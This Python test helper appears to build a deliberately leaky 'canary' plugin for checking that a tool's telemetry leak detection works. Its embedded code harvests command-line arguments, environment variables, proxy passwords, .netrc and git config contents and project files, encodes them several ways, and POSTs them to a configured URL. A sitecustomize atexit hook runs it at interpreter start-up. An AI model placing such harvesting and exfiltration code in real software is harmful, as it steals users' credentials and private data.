"""What the canary has to catch: a third party's plugin that consent was given to, and that gives everything away.

It takes all that a plugin can lay its hands on: the command line, the environment, the project, what lies in HOME, what
is installed and what is raised. On a command line that doesn't parse no plugin is loaded: there it is Python's own
start-up that leaks.
"""

from collections.abc import Mapping
from pathlib import Path

FORMS: Mapping[str, str] = {
    "plain": "str",
    "url-encoded form": "urllib.parse.quote_plus",
    "base64url": 'lambda text: base64.urlsafe_b64encode(b"x" + text.encode()).decode()',
    "hex": "lambda text: text.encode().hex().upper()",
    "sha1 hex": "lambda text: hashlib.sha1(text.encode()).hexdigest()",
    "sha256 base64": "lambda text: base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()",
}
"""How it disguises what it takes, by the form in which the search has to see it."""

_CODE = r"""
import base64, hashlib, http.client, importlib.metadata, os, pathlib, re, sys, tomllib, urllib.parse
from sst_core import hookimpl

DISGUISES = [FORMS]
done = []

def values(settings):
    if isinstance(settings, dict):
        for key, value in settings.items():
            yield key
            yield from values(value)
    elif isinstance(settings, list):
        for value in settings:
            yield from values(value)
    else:
        yield settings

def words(path):
    return re.split(r"[\s@/]+|\.git\b", path.read_text()) if path.exists() else []

def loot():
    for word in sys.argv[1:]:
        yield from (word, word.lstrip("-"), word.partition("=")[2])
    for name, value in os.environ.items():
        yield from (name, value)
        if name.endswith("_PROXY") and "://" in value:
            parts = urllib.parse.urlsplit(value)
            yield from (urllib.parse.unquote(parts.username), urllib.parse.unquote(parts.password))
    here, home = pathlib.Path.cwd(), pathlib.Path.home()
    yield from (*here.parts, *home.parts, os.uname().nodename)
    yield from values(tomllib.loads((here / "sst.toml").read_text()))
    yield from (*words(here / ".git" / "config"), *words(home / ".gitconfig"), *words(home / ".netrc"))
    for path in here.iterdir():
        if path.is_file():
            yield from (path.name, path.read_bytes().decode())
    for distribution in importlib.metadata.distributions():
        yield distribution.metadata["Name"]
        for point in distribution.entry_points:
            yield from (point.name, *point.value.split(":"))
            if point.group.startswith("sst.") and point.module in sys.modules:
                module = vars(sys.modules[point.module])
                yield from (*module, *(value for value in module.values() if isinstance(value, str)))
                app = module.get("app")
                yield from (command.name or "" for command in getattr(app, "registered_commands", ()))
    error = sys.exc_info()[1]
    if error is not None:
        yield from (type(error).__name__, str(error))

def leak():
    done.append(True)
    texts = [text for text in sorted(set(loot())) if len(text) >= 12]
    found = " | ".join(disguised(text) for disguised in DISGUISES for text in texts)
    if os.environ.get("SST_TELEMETRY_DEBUG"):
        print("sst telemetry, leaked:", found, file=sys.stderr)
        return
    state = pathlib.Path.home() / ".local" / "state" / "sst" / "telemetry" / "queue"
    if state.exists():
        (state / f"leak-{os.getpid()}").write_bytes(found.encode())
    url = urllib.parse.urlsplit(os.environ["SST_TELEMETRY_URL"])
    connection = http.client.HTTPConnection(url.netloc)
    try:
        connection.request("POST", "/leak", found.encode())
        connection.getresponse()
    except (OSError, http.client.HTTPException):
        pass
    finally:
        connection.close()

@hookimpl
def on_command_finished():
    leak()

def leak_if_no_plugin_could():
    if not done and sys.argv[1:2] != ["telemetry"] and pathlib.Path(sys.argv[0]).name == "sst":
        leak()
"""

_AT_START = """
import atexit

def late():
    import {module}
    {module}.leak_if_no_plugin_could()

atexit.register(late)
"""


def install_leak(plugins: Path) -> None:
    """Install it, named as what it is."""
    module = "leaky_plugin"
    (plugins / f"{module}.py").write_text(_CODE.replace("FORMS", ", ".join(FORMS.values())))
    (plugins / "sitecustomize.py").write_text(_AT_START.format(module=module))
    metadata = plugins / "leaky-1.0.dist-info"
    metadata.mkdir()
    (metadata / "METADATA").write_text("Metadata-Version: 2.1\nName: leaky\nVersion: 1.0\n")
    (metadata / "entry_points.txt").write_text(f"[sst.telemetry]\nleaky = {module}\n")
